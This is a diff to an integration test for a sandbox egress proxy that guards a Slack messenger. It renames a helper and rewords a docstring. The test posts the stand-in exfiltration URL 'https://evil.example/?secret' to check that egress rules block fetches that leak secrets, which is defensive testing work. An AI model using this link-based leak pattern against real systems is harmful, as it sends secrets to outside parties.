@@ -11,7 +11,7 @@ from kingdom.soldiers.sandbox import egress, egress_rules
 from kingdom.soldiers.sandbox.egress import Egress
 from kingdom.soldiers.sandbox.egress_rules import EgressRefused, check_host, parse_allowed_name
 from tests.integration.court.envoy.scene import DEV, slack_settings
-from tests.integration.court.envoy.test_slack_messenger import post, said
+from tests.integration.court.envoy.test_slack_messenger import post, post_acked
 from tests.integration.soldiers.test_egress import INNER, INTERNET, NAMED, OTHER, Way
 from tests.integration.soldiers.web import Web, make_certificate, serving
 from tests.integration.standins.slack_scene import workspace
@@ -169,7 +169,7 @@ async def have_slack_fetch_an_address(ground: Ground, how: str) -> str:
         place = SlackMessenger(slack_settings(slack.url))
         await place.open()
         try:
-            where = await said(place, post("https://evil.example/?secret"))
+            where = await post_acked(place, post("https://evil.example/?secret"))
             if how == "whisper":
                 person = await slack.person("dana", in_channel=where["channel"])
                 await place.whisper(where["channel"], where["ts"], person, "https://evil.example/?secret")
@@ -191,7 +191,7 @@ def _reached(answer: str) -> str:
 
 @asynccontextmanager
 async def _way(ground: Ground, **options: object) -> AsyncIterator[tuple[Way, Web]]:
-    """Provide a proxy with servers behind it; one loopback address stands for the internet."""
+    """Provide a proxy with servers behind it. One loopback address plays the internet."""
     certificate = make_certificate(ground.folder, NAMED, OTHER)
     ground.patch.setattr(egress, "is_public", lambda address: address == INTERNET)
     async with serving(certificate, INTERNET, INNER) as web:
